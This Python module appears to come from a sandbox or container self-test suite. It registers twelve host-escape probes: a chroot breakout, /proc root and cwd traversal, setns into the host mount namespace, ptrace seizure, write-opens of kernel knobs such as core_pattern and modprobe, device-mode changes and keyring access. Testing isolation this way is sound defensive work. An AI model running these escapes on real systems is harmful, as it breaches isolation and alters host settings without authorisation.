"""Attacks that want to get out: to files, processes, namespaces and settings of the host."""

from __future__ import annotations

import contextlib
import ctypes
import os
import signal
import socket
import stat
from collections.abc import Callable, Iterator

from . import keyring
from .frame import Aim, Exploit, Refused, check, each, libc

_SEIZE = 0x4206
_CORE, _INFINITY = 4, ctypes.c_ulong(-1).value
"""RLIMIT_CORE and RLIM_INFINITY of getrlimit(2); the module resource is not in every base."""
_KNOBS = (
    "/proc/sys/kernel/core_pattern",
    "/proc/sys/kernel/modprobe",
    "/proc/sysrq-trigger",
    "/sys/kernel/uevent_helper",
)

STICKY, GROUP = 0o1000, 1
"""What a device has when its mode and its group were changed by a descriptor."""
ABSTRACT = "\0layout-selftest"
"""Name of a socket (unix(7)) in the host's network."""


def _token(path: str, directory: int | None = None) -> str:
    fd = os.open(path, os.O_RDONLY | os.O_NOFOLLOW, dir_fd=directory)
    try:
        return os.read(fd, 100).decode("ascii", "replace")
    finally:
        os.close(fd)


def _first(attempts: Iterator[Callable[[], str]]) -> str:
    """Return what the first attempt that works brings. Raises Refused."""
    errors = []
    for attempt in attempts:
        try:
            return attempt()
        except OSError as error:
            errors.append(error)
    raise Refused(errors, "nothing of the host was there")


def chroot(aim: Aim) -> str:
    """The old escape: a root below the working directory leaves `..` without an end.

    Without an open directory: FreeBSD refuses those to whoever has changed his root before.
    """
    inside = f"{aim.t}/inside"
    with contextlib.suppress(FileExistsError):
        os.mkdir(inside)
    os.chdir("/")
    os.chroot(inside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    try:
        return _token(aim.token)
    except FileNotFoundError:
        raise Refused((), "it ended in its own root") from None


def descriptor(aim: Aim) -> str:
    name = os.path.basename(aim.token)
    return _first(lambda fd=fd: _token(name, fd) for fd in range(1024))  # type: ignore[misc]


def _processes() -> list[str]:
    return sorted((name for name in os.listdir("/proc") if name.isdigit()), key=int)


def proc_root(aim: Aim) -> str:
    paths = [f"/proc/{aim.victim}/root{aim.token}", f"/proc/{aim.victim}/cwd{aim.token}"]
    paths += [f"/proc/{pid}/{what}{aim.token}" for pid in _processes() for what in ("root", "cwd")]
    return _first(lambda path=path: _token(path) for path in paths)  # type: ignore[misc]


def namespace(aim: Aim) -> str:
    def join(pid: str) -> str:
        fd = os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY)
        check(libc.setns(fd, 0), "setns")
        return _token(aim.token)

    return _first(lambda pid=pid: join(pid) for pid in (str(aim.victim), *_processes()))  # type: ignore[misc]


def _is_victim(aim: Aim) -> None:
    """A jail may have another process of that number. Raises ProcessLookupError."""
    try:
        with open(f"/proc/{aim.victim}/comm", encoding="ascii", errors="replace") as file:
            found = file.read().strip()
    except OSError:
        found = aim.name  # /proc says nothing: the call itself will
    if found != aim.name:
        raise ProcessLookupError(3, "no such process", str(aim.victim))


def signal_host(aim: Aim) -> str:
    _is_victim(aim)
    os.kill(aim.victim, signal.SIGUSR1)
    return f"process {aim.victim}"


def ptrace(aim: Aim) -> str:
    _is_victim(aim)
    check(libc.ptrace(_SEIZE, aim.victim, None, None), "ptrace")
    return f"process {aim.victim}"


def kernel(aim: Aim) -> str:
    def opened(path: str) -> str:
        os.close(os.open(path, os.O_WRONLY))
        return path

    return _first(lambda path=path: opened(path) for path in _KNOBS)  # type: ignore[misc]


def device_mode(aim: Aim) -> str:
    """Change the mode; whether that is the host's is for the host to see."""
    os.chmod("/dev/null", 0o600)
    return "/dev/null is 0600"


def standard_input(aim: Aim) -> str:
    """As `device_mode`: the host sees whether it was its own."""
    mode = stat.S_IMODE(os.fstat(0).st_mode)
    return each(
        (("fchmod", lambda: os.fchmod(0, mode | STICKY)), ("fchown", lambda: os.fchown(0, -1, GROUP)))
    )


def core_limit(aim: Aim) -> str:
    """For a limit of 1 the kernel starts no program, and for 0 it does."""
    check(libc.setrlimit(_CORE, (ctypes.c_ulong * 2)(_INFINITY, _INFINITY)), "setrlimit")
    return "no limit"


def keys(aim: Aim) -> str:
    return each(keyring.attempts())


def abstract_socket(aim: Aim) -> str:
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(ABSTRACT)
        client.sendall(b"hello")
    return f"@{ABSTRACT[1:]}"


EXPLOITS: dict[str, Exploit] = {
    "chroot": chroot,
    "descriptor": descriptor,
    "proc-root": proc_root,
    "namespace": namespace,
    "signal": signal_host,
    "ptrace": ptrace,
    "kernel": kernel,
    "device-mode": device_mode,
    "standard-input": standard_input,
    "core-limit": core_limit,
    "keys": keys,
    "abstract-socket": abstract_socket,
}
